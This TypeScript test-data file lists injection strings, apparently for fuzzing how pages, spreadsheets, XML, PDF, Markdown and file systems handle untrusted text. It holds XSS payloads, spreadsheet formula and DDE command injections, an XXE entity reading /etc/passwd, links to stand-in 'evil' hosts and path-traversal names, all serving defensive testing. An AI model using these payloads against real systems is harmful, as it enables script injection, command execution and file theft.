/**
 * More than two hundred texts that mean something to a program that takes them for more than text: pages, style sheets, Markdown, spreadsheets, XML, JSON, PDF, terminals, file systems.
 * Made by rules, so that each kind is tried in several dresses. None is empty, none twice.
 */
export const injectionStrings: readonly string[] = [...new Set([
  // tags and handlers, in the dresses filters have been fooled with
  ...['script', 'SCRIPT', 'ScRiPt', 'script/x', 'svg/onload=alert(1)', 'img src=x onerror=alert(1)', 'iframe srcdoc="<script>alert(1)</script>"', 'body onload=alert(1)', 'details open ontoggle=alert(1)', 'math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)', 'object data=x', 'embed src=x', 'base href=//evil/', 'meta http-equiv=refresh content="0;url=//evil"', 'link rel=stylesheet href=//evil', 'form action=//evil><input name=x'].map((tag) => `<${tag}>alert(1)</${tag.split(/[ />]/, 1)[0] ?? ''}>`),
  ...['"', "'", '`', '">', "'>", '-->', '</title>', '</style>', '</textarea>', '</noscript>', '</script>', '</main></body></html>', ']]>'].flatMap((way) => [`${way}<script>alert(1)</script>`, `${way} onmouseover=alert(1) x=${way}`]),
  ...['&lt;script&gt;', '&#60;script&#62;', '&#x3c;b&#x3e;', '&amp;lt;', '&colon;', '&Tab;', '&NewLine;', '\\u003cscript\\u003e', '%3Cscript%3E', '+ADw-script+AD4-', '<scr<script>ipt>', '<<script>', '< script>', '<!', '<?', '</', '<>', '＜script＞'],
  // addresses that act
  ...['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', ' javascript:alert(1)', 'javascript&colon;alert(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD4=', 'vbscript:msgbox(1)', 'file:///etc/passwd', 'blob:https://evil/x', 'http://evil.example/', 'https://evil.example/?a=1&b=2', 'www.evil.example', 'mailto:a@evil.example', 'a@evil.example', '//evil.example/x', '\\\\evil\\share'],
  // what a page's own policy and style are made of
  ...["default-src *; script-src 'unsafe-inline'", "' ; script-src * 'unsafe-eval'", 'x"; style="background:url(//evil)', '} body { display: none } {', '@import url(//evil);', 'expression(alert(1))', '/*', '*/', '\\3c script'],
  // Markdown
  ...['[x](javascript:alert(1))', '![x](http://evil/x.png)', '[x]: http://evil', '[x][y]', '<http://evil.example>', '<a@evil.example>', '[^1]', '`code`', '``` js\ncode\n```', '~~~\ncode', '    code', '\tcode', '# heading', 'heading\n===', '- list', '* list', '+ list', '1. list', '1) list', '> quote', '***', '---', '| a | b |\n|---|---|', '**bold**', '_em_', '~~gone~~', 'line  \nbreak', 'line\\\nbreak', '\\', '\\\\', '$$x$$', ':smile:', '- [x] done', '<!-- -->', '&nbsp;'],
  // spreadsheets: what begins a formula, also in the twins of full width, and what breaks a row
  ...['=', '+', '-', '@', '＝', '＋', '－', '＠'].flatMap((sign) => [`${sign}1+1`, `${sign}HYPERLINK("http://evil","x")`]),
  ...['\t=1+1', '\r=1+1', '\n=1+1', "=cmd|' /C calc'!A0", '=IMPORTXML("http://evil","//a")', '","=1+1', '"\r\n=1+1', '";=1+1;"', ',', ';', '"', '""', "'", "'=1+1", 'a,b\nc,d', 'a\r\nb', '_x000D_', '_x0041_', '#REF!', '{=1}'],
  // XML
  ...['<![CDATA[', ']]>', '<![CDATA[x]]>', '<!ENTITY x SYSTEM "file:///etc/passwd">', '<!DOCTYPE x>', '&x;', '&#0;', '&#xD800;', '<?xml version="1.0"?>', '?>', '-->', '--', '<w:instrText>INCLUDETEXT "x"</w:instrText>', 'DDEAUTO c:\\windows\\system32\\cmd.exe', 'xmlns:w="x"', '<f>1+1</f>', '</t></is></c>', '</w:t></w:r></w:p>'],
  // JSON and JSON-LD
  ...['__proto__', 'constructor', 'prototype', '{"@id":"javascript:alert(1)"}', '@context', '@id', '","x":"', '"}]', '\\"', '\\u0000', '{{x}}', '${x}', '<%= x %>'],
  // PDF strings, names and streams
  ...['(', ')', '()', '\\)', '\\051', ') /JS (app.alert(1)) /S /JavaScript', 'endstream endobj', '%%EOF', '<</OpenAction 1 0 R>>', 'þÿ', '\u001ben\u001bx'],
  // what hides, turns round, or is no character
  ...['\u202e\u2066x', 'a\u202egpj.exe', '\u200b\u200d\ufeffx', 'a\u0000b', 'a\u0001\u0008\u000b\u000c\u001f\u007fb', 'a\u0080\u0085\u009fb', '\ud800', 'a\udc00b', '\ufffe\uffff', '\u2028x\u2029', '𠮷😀👨‍👩‍👧', 'e\u0301', '\u00a0', '\u001b[31mred\u001b[0m', '\u0007'],
  // names a file system takes amiss
  ...['../../etc/passwd', '..\\..\\x', '/etc/passwd', 'C:\\x', 'CON', 'nul.txt', 'a/b', 'a\u0000.docx', 'x.exe', '.hidden', 'x.', 'x '],
  'x'.repeat(3_000), '政'.repeat(1_500), '<'.repeat(500), '"'.repeat(500), '[('.repeat(300),
])]
